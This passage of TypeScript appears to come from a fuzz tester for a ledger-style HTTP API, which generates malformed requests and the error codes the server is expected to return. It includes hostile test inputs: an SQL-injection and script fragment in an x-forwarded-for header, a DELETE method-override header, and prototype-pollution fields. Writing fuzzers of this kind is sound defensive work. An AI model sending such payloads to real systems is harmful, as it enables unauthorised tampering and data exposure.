    if (own.length > 0 && rng.chance(0.6)) {
      // The same command again under its key, one valid field changed.
      const used = rng.pick(own);
      const body = used.changed(rng);
      const viaBody = rng.chance(0.3);
      return {
        detail: `setup key again${viaBody ? ' as commandId' : ''}, body changed`,
        url: used.url,
        body: viaBody ? { ...body, commandId: used.key } : body,
        key: viaBody ? null : used.key,
        expect: used.orRefused ? [409, used.orRefused.status] : [409],
        codes: used.orRefused ? ['idempotency-key-reused', used.orRefused.code] : ['idempotency-key-reused'],
      };
    }
    // This command's valid body under a key the setup spent on another command.
    const other = rng.pick(ctx.usedKeys.filter((u) => u.command !== spec.name));
    return {
      detail: `key of setup ${other.command}`,
      body: spec.base(),
      key: other.key,
      expect: [409],
      codes: ['idempotency-key-reused'],
    };
  },

  'unknown-reference': (spec, rng) =>
    spec.unknownReferences ? refusal(rng.pick(spec.unknownReferences)(rng)) : undefined,

  'already-recorded': (spec, rng) => (spec.alreadyRecorded ? refusal(rng.pick(spec.alreadyRecorded)(rng)) : undefined),

  'duplicate-key': (spec, rng) => {
    const base = spec.base();
    const field = rng.pick(fieldsIn(spec, base, (f) => f.path.length === 1 && getAt(base, f.path) !== undefined));
    const bad = rng.pick(wrongTypes(field));
    // JSON.parse keeps the last: a valid first value must not win.
    const raw = JSON.stringify(base).slice(0, -1) + `,${JSON.stringify(field.path[0])}:${JSON.stringify(bad)}}`;
    return { detail: `${show(field.path)} twice, last ${JSON.stringify(bad).slice(0, 30)}`, raw, expect: [400] };
  },

  'invalid-utf8': (spec, rng) => {
    const base = spec.base();
    const field = rng.pick(stringFields(spec, base));
    const bytes = rng.pick([
      [0xff],
      [0xfe, 0xff],
      [0xc3],
      [0xc0, 0xaf],
      [0xed, 0xa0, 0x80],
      [0xf4, 0x90, 0x80, 0x80],
      [0x80],
    ]);
    const marker = '@@BYTES@@';
    const [before, after] = JSON.stringify(setAt(base, field.path, `${getAt(base, field.path) ?? 'x'}${marker}`)).split(
      marker,
    );
    let raw = Buffer.concat([Buffer.from(before), Buffer.from(bytes), Buffer.from(after)]);
    let detail = `bytes ${bytes.map((b) => b.toString(16)).join(' ')} in ${show(field.path)}`;
    if (field.kind === 'text' || field.lenient) {
      const text = raw.toString('latin1').slice(0, -1) + ',"fuzzExtra":1}';
      raw = Buffer.from(text, 'latin1');
      detail += ' and an unknown field';
    }
    return { detail, raw, expect: [400] };
  },

  'odd-headers': (spec, rng) => {
    const paired = withViolation(spec, rng, spec.base());
    const headers = rng.pick<Record<string, string>>([
      { accept: 'application/xml' },
      { accept: 'text/html' },
      { 'x-correlation-id': rng.pick(INJECTIONS.filter((i) => /^[\x20-\x7e]*$/.test(i))) },
      { 'x-correlation-id': 'c'.repeat(20_000) },
      { 'x-forwarded-for': "1.2.3.4, ' OR 1=1, <script>" },
      { 'content-encoding': 'gzip' },
      { 'x-access-reason': '%E0%A4%A' },
      { 'accept-language': 'kk;q=abc' },
      { 'x-http-method-override': 'DELETE' },
    ]);
    return {
      detail: `${Object.keys(headers)[0]} ${paired.detail}`,
      headers,
      body: paired.body,
      expect: [400, 406, 415],
    };
  },

  'inherited-name-field': (spec, rng, _ctx, k) => {
    // Names every object inherits, sent as fields of an otherwise valid body.
    const base = spec.base();
    const at = rng.pick(containers(spec, base));
    const name = INHERITED_NAMES[k % INHERITED_NAMES.length];
    const value = rng.pick<Json>(['x', 1, true, [], { polluted: true }]);
    const raw = insertKey(JSON.stringify(base), base, at, `${JSON.stringify(name)}:${JSON.stringify(value)}`);
    return {
      detail: `${show(at)} gets ${name}: ${JSON.stringify(value)}`,
      raw,
      expect: [400],
      codes: ['invalid-request'],
    };
  },
};

const WRONG_BODIES = (base: Body): Json[] => [[base], 'body', 42, true, null, []];

function wrongTypePairs(spec: CommandSpec, base: Body): [Field, Json][] {
  return fieldsIn(spec, base, () => true).flatMap((f) => wrongTypes(f).map((v): [Field, Json] => [f, v]));
}

function defaultMisses(valid: string): string[] {
  return [
    valid.toUpperCase(),
    ` ${valid}`,
    `${valid} `,
    `${valid}\u0000`,
    `${valid.replace(/-/g, '_')}_`,
    `-${valid}`,
    `${valid}--x`,
    '',
  ];
}

function nearMissPairs(spec: CommandSpec, base: Body): [Field, string][] {
  return fieldsIn(spec, base, (f) => (f.nearMisses?.length ?? 0) > 0 || f.kind === 'code' || f.kind === 'enum').flatMap(
    (f) => {
      const valid = (getAt(base, f.path) as string | undefined) ?? f.allowed?.[0] ?? 'x';
      const misses = (f.nearMisses ?? defaultMisses(valid)).filter((m) => !(f.allowed ?? []).includes(m));
      return misses.map((m): [Field, string] => [f, m]);
    },
  );
}

/** Classes whose cases are enumerated rather than sampled: how many a command gets. */
export const EXHAUSTIVE: Partial<Record<string, (spec: CommandSpec) => number>> = {
  'missing-field': (spec) =>
    spec.fields.filter((f) => f.required && getAt(spec.base(), f.path) !== undefined).length + 1,
  'wrong-type': (spec) => wrongTypePairs(spec, spec.base()).length + WRONG_BODIES({}).length,
  'bad-format': (spec) => nearMissPairs(spec, spec.base()).length,
};

/**
 * Mutation classes in the order they run. Those whose answer depends on the ledger's state come
 * first, while every base body is still valid; the one that probes a known gap runs last, so that
 * a write it provokes cannot change what the others see.
 */
export const MUTATIONS = [
  'reused-key',
  'unknown-reference',
  'already-recorded',
  'bad-date',
  'missing-field',
  'wrong-type',
  'huge-string',
  'array-bounds',
  'invalid-iin',
  'unknown-code',
  'bad-format',
  'unknown-field',
  'proto-pollution',
  'injection',
  'malformed-json',
  'deep-nesting',
  'content-type',
  'empty-body',
  'bad-idempotency-key',
  'bad-path',
  'duplicate-key',
  'invalid-utf8',
  'odd-headers',
  'inherited-name-field',
] as const;

function refusal(r: Refusal): Draft {
  return { detail: r.detail, url: r.url, body: r.body, expect: r.expect, codes: r.codes };
}

/** Percent-encodes a path segment; a lone surrogate has no UTF-8 form, so it goes as the bytes it would have had. */
function encodePathSegment(text: string): string {
  try {
    return encodeURIComponent(text);
  } catch {
    return '%ED%A0%80';
  }
}

function parses(text: string): boolean {
  try {
    JSON.parse(text.replace(/^\uFEFF/, ''));
    return true;
  } catch {
    return false;
  }
}

/** Adds `"key":value` text as the first member of the object at `at` in the serialised body. */
function insertKey(text: string, body: Body, at: Path, member: string): string {
  const marker = '"@@FUZZ@@":0';
  const withMarker =
    at.length === 0 ? { '@@FUZZ@@': 0, ...body } : setAt(body, at, { '@@FUZZ@@': 0, ...(getAt(body, at) as Body) });
  const serialised = JSON.stringify(withMarker);
  if (!serialised.includes(marker)) throw new Error(`no object at ${show(at)} in ${text.slice(0, 80)}`);
  return serialised.replace(marker, member);
}
